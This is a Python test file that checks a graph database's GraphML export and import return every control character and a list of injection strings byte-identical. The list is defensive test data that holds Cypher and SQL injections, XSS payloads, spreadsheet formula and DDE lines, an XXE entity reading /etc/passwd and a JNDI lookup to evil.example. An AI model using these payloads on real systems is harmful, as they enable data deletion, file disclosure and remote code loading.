"""GraphML exports round-trip byte-identical: every control character U+0000-U+001F and the
injection strings, in names, properties and relationship keys, through the API's export
and import (valid XML by a strict parser in between). The store trims leading and trailing
whitespace of what it is given; whatever it holds comes back exactly."""

from __future__ import annotations

import json
from pathlib import Path
from xml.etree import ElementTree

import pytest

from graph.sqlite_store import SQLiteStore
from loaders.documents import read_graphml
from loaders.export import to_graphml
from loaders.pipeline import load_bytes
from tests.api.conftest import make_api

CONTROLS = [f"c{code:02x}[{chr(code)}]" for code in range(0x20)]
INJECTIONS = [
    "'}) DETACH DELETE n //",
    '"}) MATCH (m) DETACH DELETE m //',
    "`Organization`",
    "' OR '1'='1",
    "$rows",
    "]->(m) DELETE m",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "Zoë “smart” ‘quotes’ 🤝 \u202eRTL",
    "&amp; &lt; &#13; &#0;",
    "]]>",
    "<![CDATA[x]]>",
    '<?xml version="1.0"?>',
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    '</data></node><node id="evil">',
    '<data key="n0" ag:json="1">"\\u0000"</data>',
    '"\\u0000"',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n%x",
    "\u2028\u2029 separators",
    "\ufeffbyte order mark",
    "  leading and trailing  ",
    "line\r\nends\rand\nmore",
    "\t\ttabs",
    "\\ backslash \\n not a newline",
]


def test_graphml_text_is_valid_xml_and_decodes_to_the_same_values() -> None:
    import networkx as nx

    g = nx.MultiDiGraph()
    values = CONTROLS + INJECTIONS
    for i, value in enumerate(values):
        g.add_node(f"t{i}", label="Topic", name=value, note=value)
        g.add_node(f"id{i}{value}", label="Topic", name="odd id")  # the id itself odd
        g.add_edge(f"t{i}", f"id{i}{value}", type="NEEDS", weight=value)
    text = to_graphml(g)
    ElementTree.fromstring(text.encode())  # a strict XML 1.0 parser accepts it
    parsed = list(read_graphml(text.encode(), "g.graphml"))
    rows = {r.data["id"]: r.data for r in parsed if r.kind == "node"}
    edges = {(r.data["source"], r.data["target"]): r.data for r in parsed if r.kind == "rel"}
    for i, value in enumerate(values):
        assert rows[f"t{i}"]["name"] == value, (i, value)
        assert rows[f"t{i}"]["note"] == value, (i, value)
        assert f"id{i}{value}" in rows, (i, value)
        assert edges[(f"t{i}", f"id{i}{value}")]["weight"] == value, (i, value)


@pytest.mark.parametrize("start", [0, 16])
def test_export_and_import_through_the_api_is_byte_identical(tmp_path: Path, start: int) -> None:
    client, keys, store = make_api(tmp_path)
    admin = {"Authorization": f"Bearer {keys['admin']}"}
    values = CONTROLS[start : start + 16] + INJECTIONS
    nodes = [
        {"id": f"org-gm-{i}", "name": v, "industry": v, "aliases": [v]}
        for i, v in enumerate(values)
    ]
    rels = [
        {"source": f"org-gm-{i}", "target": "alliance-000", "key": v, "role": "member"}
        for i, v in enumerate(values)
    ]
    doc = {
        "format": "alliancegraph-portfolio",
        "version": 1,
        "nodes": {"Organization": nodes},
        "relationships": {"MEMBER_OF": rels},
    }
    with client:
        loaded = client.post(
            "/imports", files={"file": ("cc.json", json.dumps(doc))}, headers=admin
        )
        assert loaded.status_code == 200, loaded.text
        exported = client.get("/exports/graph.graphml", headers=admin)
        assert exported.status_code == 200
        ElementTree.fromstring(exported.content)
    other = SQLiteStore(tmp_path / "other.db")
    report = load_bytes(other, exported.content, "back.graphml")
    assert not report.rejections, report.rejections[:3]
    first, second = store.projection(), other.projection()
    for i, v in enumerate(values):
        node = f"org-gm-{i}"
        # the store trims leading and trailing whitespace of what it is given (by design);
        # what it holds comes back from its GraphML export exactly
        for field in ("name", "industry", "aliases"):
            assert second.nodes[node][field] == first.nodes[node][field], (i, v, field)
        assert first.nodes[node]["industry"] == v.strip()
        assert set(second.out_edges(node, keys=True)) == set(first.out_edges(node, keys=True))
        assert first.has_edge(node, "alliance-000", f"MEMBER_OF#{v.strip()}"), (i, v)
    assert to_graphml(second.subgraph(n for n in second if n.startswith("org-gm-"))) == to_graphml(
        first.subgraph(n for n in first if n.startswith("org-gm-"))
    )
    other.close()
    store.close()
